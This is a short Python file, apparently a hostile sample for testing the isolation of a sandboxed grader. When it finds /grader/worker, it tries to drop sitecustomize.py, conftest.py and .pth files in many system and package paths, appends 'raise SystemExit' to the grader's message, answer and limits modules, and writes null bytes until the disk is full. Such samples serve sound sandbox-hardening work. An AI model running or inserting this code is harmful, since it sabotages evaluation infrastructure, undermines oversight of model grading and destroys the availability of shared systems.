"""Writes wherever it can, fills the disk, and plants code for those who come later."""

import glob
import os
import site
import sys


def QUESTION(*args):
    if not os.path.isdir("/grader/worker"):
        return  # not shut in: do no harm
    places = [
        os.getcwd(),
        "/tmp",
        "/grader",
        "/grader/worker",
        "/usr/lib",
        "/root",
        "/etc",
    ]
    places += [*sys.path, *site.getsitepackages(), *glob.glob("/proc/1/root/*")]
    for place in places:
        for name in ("hostile-was-here", "sitecustomize.py", "hostile-was-here.pth", "conftest.py"):
            try:
                with open(os.path.join(place, name), "x") as file:
                    file.write("# hostile\n")
            except OSError:
                pass
    for module in ("message", "answer", "limits"):
        try:
            with open(f"/grader/worker/{module}.py", "a") as file:
                file.write("raise SystemExit\n")
        except OSError:
            pass
    try:
        with open("full", "wb") as file:
            while True:
                file.write(b"\0" * 2**20)
    except OSError:
        pass
